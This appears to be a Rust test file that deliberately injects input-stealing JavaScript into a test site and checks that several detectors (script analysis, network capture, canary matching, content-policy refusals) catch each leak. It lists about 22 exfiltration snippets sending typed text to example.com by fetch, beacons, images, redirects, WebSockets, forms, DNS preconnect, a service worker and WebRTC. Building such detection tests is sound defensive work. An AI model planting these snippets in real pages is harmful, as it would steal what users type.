//! The site is broken on purpose: one of its scripts sends what is typed, through one way out after another. Each has to be
//! seen by each proof that can see it. Without that the proofs would show nothing.

use std::net::UdpSocket;
use std::time::Duration;

use super::{canary, reach};
use crate::driver::Browser;
use crate::engine::Engine;
use crate::server::{Site, target};
use crate::steps::{Story, browser, words};

/// What sees a way out.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum By {
    /// The list of what scripts do.
    Reach,
    /// The wire.
    Wire,
    /// The word that was typed, in what the host heard.
    Heard,
    /// The same on the page or in the console.
    OnPage,
    /// The content policy, which refused it.
    Refused,
}

/// A way out: its name, the script, and what has to see it. `said` is what was typed.
type Leak = (&'static str, &'static str, &'static [By]);

use By::{Heard, OnPage, Reach, Refused, Wire};

const LEAKS: [Leak; 22] = [
    ("a question to the host itself", "fetch('boot.js?' + said)", &[Reach, Wire, Heard]),
    ("the same in base64", "fetch('boot.js?' + btoa('x' + said))", &[Reach, Wire, Heard]),
    ("an address of the host", "fetch(said)", &[Reach, Wire, Heard]),
    ("a body", "fetch('boot.js', { method: 'POST', body: said })", &[Reach, Wire, Heard]),
    ("a header", "fetch('boot.js', { headers: { 'X-Said': said } })", &[Reach, Wire, Heard]),
    ("a beacon to the host", "navigator.sendBeacon('boot.js', said)", &[Reach, Wire, Heard]),
    ("a picture of the host", "new Image().src = said + '.png'", &[Reach, Wire, Heard]),
    ("a cookie", "document.cookie = 'a=' + said + ';path=/'; fetch('boot.js')", &[Reach, Wire, Heard, OnPage]),
    ("going elsewhere", "location.href = 'http://example.com/?' + said", &[Reach, Wire, Heard]),
    ("going elsewhere, protected", "location.href = 'https://' + said + '.example.com/'", &[Reach, Wire, Heard]),
    ("going on within the host", "location.assign(said)", &[Reach, Wire, Heard]),
    (
        "a name to look up",
        "document.head.append(Object.assign(document.createElement('link'), { rel: 'preconnect', href: 'https://' + said + '.example.com' }))",
        &[Reach, Wire, Heard],
    ),
    ("the title", "document.title = said", &[OnPage]),
    ("the address", "history.replaceState(null, '', '?' + encodeURIComponent(said))", &[OnPage]),
    ("the history", "history.replaceState({ said }, '')", &[OnPage]),
    ("the name of the window", "window.name = said", &[Reach, OnPage]),
    ("the console", "console.log(said)", &[OnPage]),
    ("a cache", "caches.open('x').then((it) => it.put('/repo/' + said, new Response()))", &[OnPage]),
    ("a question to somebody else", "fetch('http://example.com/?' + said).catch(() => {})", &[Reach, Refused]),
    ("a picture of somebody else", "new Image().src = 'http://example.com/?' + said", &[Reach, Refused]),
    ("a socket", "new WebSocket('ws://example.com/?' + said)", &[Reach, Refused]),
    (
        "a form",
        "const form = Object.assign(document.createElement('form'), { action: 'http://example.com/' + said }); document.body.append(form); form.submit()",
        &[Reach, Refused],
    ),
];

fn source(name: &str) -> String {
    std::fs::read_to_string(target().join("site").join(name)).unwrap()
}

/// A script of the site that also does something with what is typed.
fn with_leak(name: &str, leak: &str) -> String {
    format!(
        "{}\n;document.addEventListener('input', ({{ target }}) => {{ const said = target.value; if (said) {{ {leak} }} }}, true);\n",
        source(name)
    )
}

/// Types the word into a field of the page that is shown.
fn type_it(page: &Browser, canary: &str) {
    let script = "const control = field(name[0]); if (!control) return null; setTimeout(() => set(control, name[1])); return true";
    page.until("a field", script, serde_json::json!([words().log.words, canary]));
}

fn sees(by: By, site: &Site, page: &Browser, canary: &str) -> bool {
    match by {
        By::Reach => true,
        By::Wire => !site.sent().is_empty(),
        By::Heard => !canary::on_the_wire(site, canary).is_empty(),
        By::OnPage => !canary::on_page(page, canary).is_empty() || !canary::in_console(page, canary).is_empty(),
        By::Refused => !page.refused().is_empty(),
    }
}

/// Breaks the site with a leak and says whether everything saw it that has to.
fn try_out((name, leak, by): Leak) {
    let site = Site::start();
    site.let_through();
    let script = with_leak("recover.js", leak);
    site.replace("recover.js", script.clone());
    let page = browser(&site);
    page.begin(&Story::quiet(), "/entry/1");
    assert!(site.sent().is_empty(), "{name}: before anything was typed: {:?}", site.sent());
    let canary = canary::canary();
    type_it(&page, &canary);
    for by in by {
        page.wait(&format!("{name}: {by:?}"), || sees(*by, &site, &page, &canary).then_some(()));
    }
    if by.contains(&By::Reach) {
        let mut files = reach::built();
        files.insert("recover.js".into(), script.into_bytes());
        assert!(reach::faults(&files).iter().any(|fault| fault.starts_with("recover.js")), "{name}");
    }
    let _ = page.refused();
}

#[test]
fn every_way_out_is_seen() {
    Engine::not_webkit("what WebKitGTK asks of others is not heard");
    // No other engine hands out its console, and Firefox looks up nothing beforehand where it has a proxy.
    let is_heard =
        |leak: &Leak| Engine::wanted() == Engine::Chromium || !["the console", "a name to look up"].contains(&leak.0);
    LEAKS.into_iter().filter(is_heard).for_each(try_out);
    let by = |what: By| LEAKS.iter().filter(|(_, _, by)| by.contains(&what)).count();
    super::say(&format!(
        "the proofs fail where they have to: of {} ways out {} were seen in the scripts, {} on the wire, {} by the word in what was heard, {} by the word on the page, {} were refused by the policy",
        LEAKS.len(),
        by(Reach),
        by(Wire),
        by(Heard),
        by(OnPage),
        by(Refused)
    ));
}

/// A worker of the site that asks somebody else when it is told something, and says when it has.
fn sending_worker() -> String {
    let leak = "self.addEventListener('message', async ({ data, source }) => {
        await fetch('http://example.com/?' + data, { mode: 'no-cors' }).catch(() => {});
        source?.postMessage('asked');
      });";
    format!("{}\n{leak}", source("sw.js"))
}

/// A header of the host reaches the worker, which no policy of a page does.
#[test]
fn a_worker_that_sends_is_stopped_by_the_headers() {
    let site = Site::start();
    site.read_headers();
    site.replace("sw.js", sending_worker());
    let page = browser(&site);
    page.begin(&Story::quiet(), "/entry/1");
    page.edition_kept();
    let ask = "navigator.serviceWorker.onmessage = () => { window.__asked = true };
        navigator.serviceWorker.controller.postMessage(name)";
    page.run(ask, serde_json::json!("word"));
    page.until("that it tried", "return window.__asked ?? null", serde_json::json!(null));
    assert_eq!(site.sent(), Vec::<String>::new());
    let _ = page.refused();
}

#[test]
fn a_worker_that_sends_is_seen() {
    let site = Site::start();
    site.let_through();
    let worker = sending_worker();
    site.replace("sw.js", worker.clone());
    let page = browser(&site);
    page.begin(&Story::quiet(), "/entry/1");
    page.edition_kept();
    assert!(site.sent().is_empty(), "{:?}", site.sent());
    let canary = canary::canary();
    page.run("navigator.serviceWorker.controller.postMessage(name)", serde_json::json!(canary));
    page.wait("the wire", || (!site.sent().is_empty()).then_some(()));
    page.wait("the word", || (!canary::on_the_wire(&site, &canary).is_empty()).then_some(()));
    let mut files = reach::built();
    files.insert("sw.js".into(), worker.into_bytes());
    assert!(reach::faults(&files).iter().any(|fault| fault.starts_with("sw.js: fetch(")));
}

/// Calls between browsers go past a proxy and past the policy: only the list of what scripts do sees them.
#[test]
fn a_call_between_browsers_is_seen_in_the_scripts_alone() {
    let ear = UdpSocket::bind("127.0.0.1:0").unwrap();
    ear.set_read_timeout(Some(Duration::from_secs(20))).unwrap();
    let leak = format!(
        "const call = new RTCPeerConnection({{ iceServers: [{{ urls: 'stun:{}' }}] }}); call.createDataChannel('x'); call.setLocalDescription()",
        ear.local_addr().unwrap()
    );
    let site = Site::start();
    let script = with_leak("recover.js", &leak);
    site.replace("recover.js", script.clone());
    let page = browser(&site);
    page.begin(&Story::quiet(), "/entry/1");
    type_it(&page, "word");
    let is_out = ear.recv(&mut [0; 64]).is_ok();
    let mut files = reach::built();
    files.insert("recover.js".into(), script.into_bytes());
    assert!(reach::faults(&files).iter().any(|fault| fault.starts_with("recover.js: RTCPeerConnection")));
    super::say(&format!(
        "a call between browsers {} the machine, and was seen in the scripts",
        if is_out { "left" } else { "did not leave" }
    ));
}
